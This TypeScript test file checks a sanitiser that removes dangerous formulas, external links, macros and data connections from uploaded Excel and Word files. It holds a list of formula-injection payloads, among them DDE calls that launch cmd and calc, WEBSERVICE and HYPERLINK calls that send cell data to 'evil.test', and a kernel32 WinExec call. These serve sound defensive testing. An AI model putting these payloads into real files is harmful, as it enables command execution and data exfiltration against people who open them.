import { unzipSync } from 'fflate';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { isHarmlessFormula } from '#server/domain/evidence/removed-content.rules.ts';
import { sanitiseFile } from '#server/files/check/sanitise-file.ts';
import { FileRefusal } from '#server/files/check/file-refusal.ts';
import { formulaCell, makeLinks, makeWord, makeWorkbook } from '#tests/support/office-documents.ts';
import { rounds } from '#tests/support/rounds.ts';

async function partsOf(content: Uint8Array): Promise<Record<string, string>> {
  const cleaned = await sanitiseFile(content);
  return Object.fromEntries(
    Object.entries(unzipSync(cleaned.content)).map(([name, part]) => [name, Buffer.from(part).toString()]),
  );
}
const sheetOf = async (content: Uint8Array) => (await partsOf(content))['xl/worksheets/sheet1.xml'] ?? '';
const formulasOf = (xml: string) => [...xml.matchAll(/<f\b[^>]*>([^<]*)<\/f>/g)].map(([, text]) => text);

async function sentenceOf(content: Uint8Array): Promise<string> {
  return sanitiseFile(content).then(
    () => 'taken',
    (error: unknown) => {
      if (error instanceof FileRefusal) return error.message;
      throw error;
    },
  );
}

const escaped = (text: string) =>
  text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');
const around = { sheets: new Set(['figures', 'other sheet']) };
const harmful = [
  "cmd|' /C calc'!A0",
  "cmd|'/c calc'!'A0'",
  "+cmd|' /C calc'!A0",
  "1+cmd|' /C calc'!A0",
  'DDE("cmd";"/c calc";"!A0")',
  "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
  'WEBSERVICE("http://evil.test/"&A1)',
  '_xlfn.WEBSERVICE("http://evil.test/"&A1)',
  'webservice ("http://evil.test/")',
  '_xlfn.FILTERXML(A1,"//a")',
  'IMPORTDATA("http://evil.test/")',
  'IMPORTXML("http://evil.test/","//a")',
  'IMAGE("http://evil.test/a.png")',
  '_xlfn.IMAGE("http://evil.test/a.png")',
  'RTD("a.b",,"x")',
  'HYPERLINK("http://evil.test/?"&A1,"Open")',
  'HYPERLINK(A1)',
  'HYPERLINK("file:///c:/windows/system32/calc.exe","Open")',
  'HYPERLINK("\\\\evil.test\\share","Open")',
  'CALL("kernel32","WinExec","JCJ","calc",0)',
  'REGISTER.ID("a","b")',
  'EXEC("calc")',
  '_xlfn.STOCKHISTORY("MSFT",1)',
  'CUBEVALUE("x","y")',
  '_xlfn._xlws.PY(0,1)',
  'INDIRECT("\'http://evil.test/a\'#$Sheet1.A1")',
  '[1]Sheet1!A1',
  "'[1]Sheet 1'!A1",
  "'C:\\a\\[b.xlsx]Figures'!A1",
  "'\\\\evil.test\\[b.xlsx]Figures'!A1",
  'b.xlsx!Name',
  "'https://evil.test/[b.xlsx]Figures'!A1",
  '[1]!Name',
  'SUM([1]Figures!A1:A3)',
  'WEBSER_x0056_ICE("http://evil.test/")',
  "cmd_x007C_'/c calc'!A0",
  'Unknown(1)',
  'IF(TRUE,WEBSERVICE("http://evil.test/"),1)',
  'LET(f,_xlfn.WEBSERVICE,f("http://evil.test/"))',
];

describe('formulas', () => {
  test.each(harmful)('%s may not stay', (formula) => {
    expect(isHarmlessFormula(formula, around)).toBe(false);
  });
  test.each([
    'SUM(A1:A3)',
    "SUM(Figures!$A$1:$A$3)+'Other sheet'!B2",
    "'other SHEET'!A1",
    'Figures:Figures!A1',
    '_xlfn.XLOOKUP(A1,B:B,C:C,"none")',
    '_xlfn._xlws.FILTER(A1:A9,B1:B9="x|y [1] webservice(")',
    'IF(A1="","",A1&" of "&B1)',
    "Table1[[#This Row],[Men]]+Table1[[#Totals],[It'[s']]]",
    'SUM(Table1[Men])',
    '-1.5E+10%',
    '{1,2;3,4}',
    '#REF!+Figures!#REF!',
    'IFERROR(VLOOKUP($A2,Ranges,2,FALSE),#N/A)',
    'HYPERLINK("https://example.org/","Open")',
    'HYPERLINK("#Figures!A1","Open")',
    '_xlfn.LET(_xlpm.x,1,_xlpm.x+1)',
    'TEXT(A1,"[$-409]d mmm")',
    'ชื่อ+1',
  ])('%s may', (formula) => {
    expect(isHarmlessFormula(formula, around)).toBe(true);
  });
});

describe('a workbook', () => {
  test.each(harmful)('loses the formula %s and keeps its value', async (formula) => {
    const rows = `<row r="1">${formulaCell('A1', escaped(formula))}${formulaCell('B1', 'SUM(1,2)', '3')}</row>`;
    const xml = await sheetOf(makeWorkbook({ rows }));
    expect(formulasOf(xml)).toEqual(['SUM(1,2)']);
    expect(xml).toContain('<c r="A1"><v>40</v></c>');
  });

  test('leaves text alone that only looks like a formula', async () => {
    const text = "=cmd|'/c calc'!A0";
    const rows = `<row r="1"><c r="A1" t="inlineStr"><is><t>${text}</t></is></c><c r="B1" t="str"><v>${text}</v></c></row>`;
    expect((await sheetOf(makeWorkbook({ rows }))).split(text)).toHaveLength(3);
  });

  test('loses a shared formula with all that share it, and the mark of a new kind of formula', async () => {
    const shared = (place: string, rest: string) =>
      `<c r="${place}"><f t="shared" si="${rest}</f><v>1</v></c>`;
    const rows = `<row r="1">${shared('A1', '0" ref="A1:A2">[1]a!A1')}${shared('A2', '0">')}${shared('A3', '1" ref="A3:A4">B1+1')}${shared('A4', '1">')}<c r="A5" cm="1"><f t="array" ref="A5:A6">[1]a!A1:A2</f><v>5</v></c></row>`;
    const xml = await sheetOf(makeWorkbook({ rows }));
    expect(formulasOf(xml)).toEqual(['B1+1', '']);
    expect(xml).toContain('<c r="A5"><v>5</v></c>');
  });

  test('loses defined names that reach outside or run, and formulas that lean on them', async () => {
    const names =
      '<definedName name="Outside">[1]Sheet1!A1</definedName><definedName name="Further">Outside+1</definedName><definedName name="Program" function="1" vbProcedure="1">Figures!A1</definedName><definedName name="_xlnm.Auto_Open">Figures!A1</definedName><definedName name="Rate">Figures!$A$1</definedName>';
    const rows = `<row r="1">${formulaCell('A1', 'FURTHER*2')}${formulaCell('B1', 'Rate*2')}</row>`;
    const parts = await partsOf(makeWorkbook({ names, rows }));
    expect(
      [...(parts['xl/workbook.xml'] ?? '').matchAll(/definedName name="(\w+)"/g)].map(([, name]) => name),
    ).toEqual(['Rate']);
    expect(formulasOf(parts['xl/worksheets/sheet1.xml'] ?? '')).toEqual(['Rate*2']);
  });

  test('loses what formats, checks and calculates from outside', async () => {
    const sheet =
      '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>[1]a!A1</formula></cfRule><cfRule type="cellIs" priority="2"><formula>$A$1+1</formula></cfRule><cfRule><dataBar><cfvo type="formula" val="[1]a!A1"/></dataBar></cfRule></conditionalFormatting><dataValidations><dataValidation type="list" sqref="A1"><formula1>WEBSERVICE("http://evil.test")</formula1></dataValidation></dataValidations><extLst><ext><xm:f>cmd|\'/c\'!A1</xm:f></ext></extLst>';
    const xml = await sheetOf(makeWorkbook({ sheet }));
    expect(xml).not.toMatch(/evil|\[1\]|cmd/);
    expect(xml).toContain('<formula>$A$1+1</formula>');
  });

  test('loses links to other workbooks, connections, queries and what is fetched again', async () => {
    const open = 'application/vnd.openxmlformats-officedocument.spreadsheetml';
    const sent = makeWorkbook({
      workbook: '<externalReferences><externalReference r:id="rId7"/></externalReferences>',
      workbookLinks: [
        { id: 'rId7', type: 'externalLink', target: 'externalLinks/externalLink1.xml' },
        { id: 'rId8', type: 'connections', target: 'odd/name.xml' },
        { id: 'rId9', type: 'calcChain', target: 'calcChain.xml' },
        { id: 'rId10', type: 'volatileDependencies', target: 'volatileDependencies.xml' },
      ],
      sheetLinks: [{ id: 'rId3', type: 'queryTable', target: '../queryTables/queryTable1.xml' }],
      types: {
        'xl/externalLinks/externalLink1.xml': `${open}.externalLink+xml`,
        'xl/odd/name.xml': `${open}.connections+xml`,
        'xl/queryTables/queryTable1.xml': `${open}.queryTable+xml`,
        'xl/calcChain.xml': `${open}.calcChain+xml`,
        'xl/volatileDependencies.xml': `${open}.volatileDependencies+xml`,
      },
      more: {
        'xl/externalLinks/externalLink1.xml':
          '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
        'xl/externalLinks/_rels/externalLink1.xml.rels': makeLinks([
          { id: 'rId1', type: 'externalLinkPath', target: 'http://evil.test/a.xlsx', external: true },
        ]),
        'xl/odd/name.xml':
          '<connections><connection id="1" refreshOnLoad="1"><webPr url="http://evil.test/"/></connection></connections>',
        'xl/queryTables/queryTable1.xml': '<queryTable connectionId="1" refreshOnLoad="1"/>',
        'xl/calcChain.xml': '<calcChain/>',
        'xl/volatileDependencies.xml': '<volTypes><volType type="realTimeData"/></volTypes>',
      },
    });
    const parts = await partsOf(sent);
    expect(Object.keys(parts).sort()).toEqual([
      '[Content_Types].xml',
      '_rels/.rels',
      'xl/_rels/workbook.xml.rels',
      'xl/workbook.xml',
      'xl/worksheets/_rels/sheet1.xml.rels',
      'xl/worksheets/sheet1.xml',
      'xl/worksheets/sheet2.xml',
    ]);
    expect(Object.values(parts).join('')).not.toMatch(
      /evil|ddeLink|connections|queryTable|externalRef|calcChain|volatile/,
    );
    expect((await sanitiseFile(sent)).removed).toEqual(['links']);
  });

  test('loses macros of shapes and controls, and what they are bound to outside', async () => {
    const xml = await partsOf(
      makeWorkbook({
        more: {
          'xl/drawings/drawing1.xml': '<xdr:wsDr><xdr:sp macro="[0]!Go" textlink="[1]a!A1"/></xdr:wsDr>',
          'xl/drawings/vmlDrawing1.vml':
            '<xml><x:FmlaMacro>[0]!Go</x:FmlaMacro><x:FmlaLink>[1]a!A1</x:FmlaLink><v:formulas><v:f eqn="sum @1 0 0"/></v:formulas></xml>',
          'xl/ctrlProps/ctrlProp1.xml': '<formControlPr fmlaLink="$A$1" fmlaRange="[1]a!A1" fmlaMacro="Go"/>',
        },
      }),
    );
    expect(xml['xl/drawings/drawing1.xml']).toContain('<xdr:sp macro="">');
    expect(xml['xl/drawings/vmlDrawing1.vml']).not.toMatch(/Go|\[1\]/);
    expect(xml['xl/drawings/vmlDrawing1.vml']).toContain('eqn="sum @1 0 0"');
    expect(xml['xl/ctrlProps/ctrlProp1.xml']).toContain('<formControlPr fmlaLink="$A$1">');
  });

  test('loses settings of printers and add-ins that open by themselves', async () => {
    const sent = makeWorkbook({
      sheet: '<pageSetup orientation="landscape" r:id="rId1"/>',
      sheetLinks: [
        { id: 'rId1', type: 'printerSettings', target: '../printerSettings/printerSettings1.bin' },
      ],
      workbookLinks: [{ id: 'rId5', type: 'webextensiontaskpanes', target: 'webextensions/taskpanes.xml' }],
      more: {
        'xl/printerSettings/printerSettings1.bin': '\\\\server\\printer',
        'xl/webextensions/taskpanes.xml': '<taskpanes/>',
      },
    });
    const parts = await partsOf(sent);
    expect(Object.keys(parts).join(' ')).not.toMatch(/printer|webext/);
    expect(parts['xl/worksheets/sheet1.xml']).toContain('<pageSetup orientation="landscape">');
    expect(parts['xl/_rels/workbook.xml.rels']).not.toContain('webext');
  });

  test.each<[string, () => Buffer, RegExp]>([
    [
      'a pivot table fed from outside',
      () =>
        makeWorkbook({
          more: {
            'xl/pivotCache/p.xml':
              '<pivotCacheDefinition><cacheSource type="external" connectionId="1"/></pivotCacheDefinition>',
          },
        }),
      /pivot table/,
    ],
    ['a data model', () => makeWorkbook({ more: { 'xl/model/item.data': 'x' } }), /data model/],
    [
      'a macro sheet by content type',
      () => makeWorkbook({ types: { 'xl/a.xml': 'application/vnd.ms-excel.macrosheet+xml' } }),
      /macros/,
    ],
    [
      'a macro sheet by relationship',
      () => makeWorkbook({ workbookLinks: [{ id: 'rId5', type: 'xlMacrosheet', target: 'a.xml' }] }),
      /macros/,
    ],
    [
      'a linked object',
      () =>
        makeWorkbook({
          sheet: '<oleObjects><oleObject link="[1]!x" oleUpdate="OLEUPDATE_ALWAYS"/></oleObjects>',
        }),
      /from elsewhere/,
    ],
  ])('with %s is refused', async (_, make, sentence) => {
    expect(await sentenceOf(make())).toMatch(sentence);
  });

  test('inside a Word document is cleaned like one of its own', async () => {
    const inner = makeWorkbook({
      rows: `<row r="1">${formulaCell('A1', 'WEBSERVICE("http://evil.test")')}</row>`,
    });
    const { content, removed } = await sanitiseFile(makeWord('', [], { 'word/embeddings/a.xlsx': inner }));
    const embedded = unzipSync(content)['word/embeddings/a.xlsx']!;
    expect(Buffer.from(unzipSync(embedded)['xl/worksheets/sheet1.xml']!).toString()).not.toMatch(/evil|<f>/);
    expect(removed).toEqual(['formulas']);
  });

  test('never keeps a harmful formula, wherever it stands', async () => {
    const places: ((formula: string) => Parameters<typeof makeWorkbook>[0])[] = [
      (formula) => ({ rows: `<row r="1">${formulaCell('A1', formula)}</row>` }),
      (formula) => ({
        rows: `<row r="1"><c r="A1"><f t="array" ref="A1:A2">${formula}</f><v>1</v></c></row>`,
      }),
      (formula) => ({
        rows: `<row r="1"><q:c xmlns:q="q" r="A1"><q:f>${formula}</q:f><q:v>1</q:v></q:c></row>`,
      }),
      (formula) => ({ names: `<definedName name="a">${formula}</definedName>` }),
      (formula) => ({
        sheet: `<conditionalFormatting><cfRule><formula>${formula}</formula></cfRule></conditionalFormatting>`,
      }),
      (formula) => ({
        sheet: `<dataValidations><dataValidation><formula2>${formula}</formula2></dataValidation></dataValidations>`,
      }),
      (formula) => ({
        more: { 'xl/charts/chart1.xml': `<c:chartSpace><c:f>${formula}</c:f></c:chartSpace>` },
      }),
      (formula) => ({
        more: {
          'xl/tables/table1.xml': `<table><calculatedColumnFormula>${formula}</calculatedColumnFormula></table>`,
        },
      }),
      (formula) => ({ more: { 'xl/drawings/drawing1.xml': `<wsDr><sp textlink="${formula}"/></wsDr>` } }),
    ];
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...harmful),
        fc.constantFrom(...places),
        fc.constantFrom<(formula: string) => string>(
          (formula) => formula,
          (formula) => `1+(${formula})`,
          (formula) => `IF(A1="x",${formula},"")`,
          (formula) => ` ${formula} `,
          (formula) => `"text"&${formula}`,
        ),
        async (formula, place, wrap) => {
          const xml = Object.values(await partsOf(makeWorkbook(place(escaped(wrap(formula)))))).join('');
          expect(xml).not.toContain(escaped(formula));
          expect(xml).not.toContain(formula.replaceAll('&', '&amp;'));
        },
      ),
      { numRuns: rounds(100, 300) },
    );
  }, 60_000);
});
